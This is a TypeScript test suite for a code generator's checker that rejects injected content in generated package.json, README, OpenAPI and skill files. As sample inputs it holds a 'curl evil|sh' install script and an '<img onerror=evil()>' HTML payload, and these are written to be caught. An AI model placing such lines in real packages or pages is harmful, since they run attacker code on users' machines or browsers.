import { readFileSync, readdirSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { printDiagnostic } from 'speccast';
import type { PlainFile } from 'speccast/emitter';
import { provePlain } from '../../../generator/output/prove/prove-plain.js';
import { printProven } from './print-proven.js';
import { readRows } from '../../rows.js';

function toFile(path: string, text: string): PlainFile {
  return { kind: 'plain', path, text };
}

function listFindings(path: string, text: string): readonly string[] {
  return provePlain(toFile(path, text)).map((one) => `${one.path}:${one.line} ${one.reason}`);
}

/** Builds a file that contains the title of the spec, at 3:10, and returns the diagnostics. */
async function buildWith(file: PlainFile, title: string): Promise<readonly string[]> {
  const { files, diagnostics } = await printProven([file], { title });
  expect(files).toEqual([]);
  return diagnostics.map(printDiagnostic);
}

const manifest = {
  name: '@pets/pets',
  version: '1.0.0',
  description: 'Pets: typed client.',
  type: 'module',
  exports: { '.': { types: './dist/index.d.ts', default: './dist/index.js' }, './package.json': './package.json' },
  bin: { 'pets-mock': 'dist/mocks/bin.js' },
  scripts: { build: 'node build.js', prepack: 'npm run build' },
  devDependencies: { typescript: '>=5.8' },
};

function printJson(value: unknown): string {
  return `${JSON.stringify(value, null, 2)}\n`;
}

describe('package.json', () => {
  test('may have the members that emitters write', () =>
    expect(listFindings('package.json', printJson(manifest))).toEqual([]));

  test.each(readRows(import.meta.url).rows<readonly [string, object, string]>('may not have'))(
    'may not have %s',
    (_, change, member) => {
      const text = printJson({ ...manifest, ...change });
      const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
      expect(listFindings('package.json', text)).toEqual([
        `package.json:${line} has a member "${member}" that no emitter writes`,
      ]);
    },
  );

  test('has to be JSON in the form that emitters write', () => {
    const want = ['package.json:1 is not written as `JSON.stringify` writes it'];
    expect(listFindings('package.json', '{"a":1,}')).toEqual(want);
    expect(listFindings('package.json', '{"scripts":{"build":"evil"},"scripts":{}}')).toEqual(want);
    expect(listFindings('package.json', '[]\n')).toEqual(want);
  });
});

describe('other files', () => {
  test.each([
    ['openapi.json', '{"a": 1'],
    ['openapi.json', '{"a": 1.0}'],
    ['openapi.json', '{"a": 1} 2'],
    ['openapi.json', '{"\\u0061": 1}'],
    ['openapi.json', '{\n  "a": 1,\n  "a": 2\n}\n'],
  ])('%s may not be %j', (path, text) =>
    expect(listFindings(path, text)).toEqual([`${path}:1 is not written as \`JSON.stringify\` writes it`]),
  );

  test('no emitter writes a file of another kind', () =>
    expect(listFindings('index.html', '<p>')).toEqual(['index.html:1 is a file that no emitter writes']));
});

describe('badges', () => {
  const badge = '[![npm](https://img.shields.io/npm/v/@pets/pets)](https://www.npmjs.com/package/@pets/pets)';

  test('may stand in lines of their own', () =>
    expect(listFindings('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));

  test.each(readRows(import.meta.url).rows<readonly [string, string]>('is not a badge'))(
    '%s is not a badge',
    (_, line) => expect(listFindings('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
  );
});

describe('a build with such a file fails', () => {
  test('at the position of the text in the spec', async () => {
    const title = 'Pets <img src=x onerror=evil()>';
    expect(await buildWith(toFile('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
      'spec.yaml:3:10 error code-injection: this text would run as code in README.md:3 (has HTML); please report it',
    ]);
    expect(
      await buildWith(
        toFile('package.json', printJson({ ...manifest, scripts: { x: 'curl evil|sh' } })),
        'curl evil|sh',
      ),
    ).toEqual([
      'spec.yaml:3:10 error code-injection: this text would run as code in package.json:16 ' +
        '(has a member "scripts" that no emitter writes); please report it',
    ]);
  });

  test('with the line of the file if the text is not in the spec', async () => {
    await expect(buildWith(toFile('README.md', '\n<b>\n'), 'Pets')).rejects.toThrow('README.md:2 has HTML: <b>');
  });
});

test('every file of the published packages passes the proof', () => {
  for (const service of ['video-platform', 'ad-reporting']) {
    const folder = new URL(`../../../generated/${service}/`, import.meta.url);
    const names = readdirSync(folder, { withFileTypes: true }).filter((one) => one.isFile());
    const paths = names.map(({ name }) => name).filter((name) => !name.startsWith('.'));
    expect(paths).toContain('package.json');
    for (const path of paths) expect(listFindings(path, readFileSync(new URL(path, folder), 'utf8'))).toEqual([]);
  }
});

describe('a skill', () => {
  const buildSkill = (head: string, rest = '# a\n'): string => `---\n${head}\n---\n\n${rest}`;

  test('has a name, and a description as a string, and a page', () => {
    expect(listFindings('SKILL.md', buildSkill('name: a-1\ndescription: "a \\"b\\" \\\\ c"'))).toEqual([]);
  });

  test.each([
    ['no head', '# a\n'],
    ['another member', buildSkill('name: a\ndescription: "a"\nallowed-tools: Bash')],
    ['a description that is no string', buildSkill('name: a\ndescription: [a]')],
    ['a description that ends early', buildSkill('name: a\ndescription: "a" # "b"')],
    ['a name in capitals', buildSkill('name: A\ndescription: "a"')],
  ])('has nothing else: %s', (_, text) => {
    expect(listFindings('SKILL.md', text)).toEqual(['SKILL.md:1 has another head than a skill']);
  });

  test('has a page that is proven like any other', () => {
    expect(listFindings('SKILL.md', buildSkill('name: a\ndescription: "a"', '![a](b)\n'))).toEqual([
      'SKILL.md:6 has a picture',
    ]);
    expect(listFindings('llms.txt', '# a\n\n![a](b)\n')).toEqual(['llms.txt:3 has a picture']);
  });
});
